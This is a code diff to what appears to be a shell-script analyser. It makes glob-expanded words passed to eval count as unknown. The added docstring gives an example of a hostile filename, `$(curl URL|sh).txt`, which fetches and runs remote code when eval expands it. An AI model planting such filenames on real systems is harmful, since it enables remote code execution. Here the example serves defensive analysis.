@@ -1395,10 +1395,15 @@ def _union(a: tuple[str, ...] | None, b: tuple[str, ...] | None) -> tuple[str, .
 
 
 def _joined(vals: list[Value]) -> Value:
+    """The words `vals` joined by spaces, as eval reads them again: unknown where one is a glob's matches, whose names
+    on disk become code (a file named `$(curl URL|sh).txt` runs in `eval echo *.txt`)."""
     texts = [v.text for v in vals]
     if any(t is None for t in texts):
         bad = next(v for v in vals if v.text is None)
         return replace(bad, multi=False)
+    globbed = next((v.pattern for v in vals if v.pattern is not None), None)
+    if globbed is not None:
+        return Value.unknown(f"the names {globbed} matches on disk, which are read again as code")
     return Value.of(" ".join(t for t in texts if t is not None))
 
 
